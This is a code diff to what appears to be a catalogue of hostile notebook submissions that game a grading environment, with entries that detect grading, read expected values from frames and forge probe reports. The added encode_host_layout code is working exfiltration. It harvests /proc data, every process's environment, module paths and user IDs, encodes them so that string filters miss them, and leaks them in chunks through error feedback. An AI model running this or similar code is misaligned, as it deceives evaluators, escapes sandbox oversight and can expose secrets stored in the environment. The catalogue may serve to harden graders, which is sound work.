@@ -27,6 +27,9 @@ class                 what the notebook does
 ``detect_grading``    recognises the grading environment and only then defines its "answers"
 ``report_host_paths`` raises errors holding what it can read of the machine (its environment's
                       paths, the mount table, the user id map, install records) for feedback
+``encode_host_layout`` walks everything it can read (the mount table, ``/proc/self/*``, ``sys.path``,
+                      module files and their compiled copies, install records, the environment)
+                      and puts the paths and numbers found, compressed and encoded, into an error
 ``peek_frames``       searches the garbage collector and the callers' frames for expected values
 ``forge_probes``      replaces entries of the runtime's probe table: the model's report a
                       Nature-DQN whose weights are all 0 (and outputs of 0), the policy's
@@ -285,6 +288,84 @@ def _seen():
     return " ".join(dict.fromkeys(f for f in found if f not in skip))
 def make_model(n_actions):
     raise RuntimeError("LEAK: " + _seen())
+""",
+    "encode_host_layout": r"""
+# Everything this process can read of the machine, as path prefixes and numbers, encoded (so
+# that no filter by exact string finds it) into the error that feedback quotes.
+import base64, glob, json, marshal, os, re, sys, zlib
+def _paths(text):
+    # Absolute paths only: not the "/x" inside a relative path or a hash
+    return re.findall(r"(?<![A-Za-z0-9._@+/-])/[A-Za-z0-9._@+-]+(?:/[A-Za-z0-9._@+-]+)*", text)
+def _read(path, binary=False):
+    try:
+        with open(path, "rb" if binary else "r", errors=None if binary else "replace") as f:
+            return f.read(1 << 20)
+    except OSError:
+        return b"" if binary else ""
+def _walk():
+    texts = [sys.prefix, sys.base_prefix, sys.exec_prefix, sys.executable, os.getcwd(), *sys.path]
+    texts += [f"{k}={v}" for k, v in os.environ.items()]
+    for name in ("mountinfo", "mounts", "cgroup", "uid_map", "gid_map", "status", "environ",
+                 "cmdline", "maps", "loginuid", "mountstats"):
+        texts.append(_read(f"/proc/self/{name}"))
+    for pid in os.listdir("/proc"):
+        if pid.isdigit():
+            texts += [_read(f"/proc/{pid}/cmdline"), _read(f"/proc/{pid}/environ")]
+            texts += [_read(f"/proc/{pid}/mountinfo"), _read(f"/proc/{pid}/uid_map")]
+    for name in [os.path.join(sys.prefix, "pyvenv.cfg"), *glob.glob(sys.prefix + "/bin/*")]:
+        texts.append(_read(name).split("\0")[0][:20000])  # the environment's scripts
+    for module in list(sys.modules.values()):
+        for attribute in ("__file__", "__cached__"):
+            value = getattr(module, attribute, None)
+            if isinstance(value, str):
+                texts.append(value)
+        cached = getattr(module, "__cached__", None)
+        if isinstance(cached, str):
+            try:
+                texts.append(marshal.loads(_read(cached, True)[16:]).co_filename)
+            except Exception:
+                pass
+    for entry in sys.path:
+        for pattern in ("*.pth", "*.dist-info/direct_url.json", "*.dist-info/RECORD",
+                        "*.egg-link", "__editable__*"):
+            for name in glob.glob(os.path.join(entry, pattern))[:400]:
+                texts.append(_read(name)[:20000])
+        for name in glob.glob(os.path.join(entry, "*/__pycache__/__init__*.pyc"))[:400]:
+            try:
+                texts.append(marshal.loads(_read(name, True)[16:]).co_filename)
+            except Exception:
+                pass
+    prefixes, numbers = set(), set()
+    for text in texts:
+        for path in _paths(text):
+            parts = path.rstrip("/").split("/")
+            for depth in range(3, min(len(parts), 6) + 1):  # /a/b to /a/b/c/d/e
+                prefixes.add("/".join(parts[:depth]))
+        for line in text.splitlines():  # user and group ids: id maps, status, mount options
+            if line.startswith(("Uid:", "Gid:")) or re.match(r"\s*[0-9]+\s+[0-9]+\s+[0-9]+$", line):
+                numbers |= {int(n) for n in re.findall(r"[0-9]+", line)}
+        numbers |= {int(n) for n in re.findall(r"\b[ug]id=([0-9]+)", text)}
+    for path in ("/", "/tmp", "/submission", "/opt/venv", "/grader/bin", "/proc/self"):
+        try:
+            info = os.stat(path)
+            numbers |= {info.st_uid, info.st_gid}
+        except OSError:
+            pass
+    numbers |= {os.getuid(), os.geteuid(), os.getgid()}
+    # What the documentation says the sandbox shows is no news: only the rest is sent.
+    known = ("/opt/venv", "/opt/python", "/grader", "/submission", "/proc", "/dev", "/usr",
+             "/etc", "/sys", "/bin", "/lib", "/lib64", "/sbin")
+    news = sorted(p for p in prefixes if not any(p == k or p.startswith(k + "/") for k in known))
+    report = {"seen": len(prefixes), "prefix": sys.prefix, "paths": news,
+              "ids": ",".join(format(n, "x") for n in sorted(numbers) if n >= 1000)}
+    return base64.b64encode(zlib.compress(json.dumps(report).encode(), 9)).decode()
+_calls = []
+def make_model(n_actions):  # each call sends the next piece (an error's first 300 characters)
+    blob = _walk()
+    pieces = [blob[i:i + 200] for i in range(0, len(blob), 200)]
+    index = len(_calls) % len(pieces)
+    _calls.append(1)
+    raise RuntimeError(f"LAYOUT {index}/{len(pieces)}:{pieces[index]}:END")
 """,
     "peek_frames": r"""
 import gc, sys
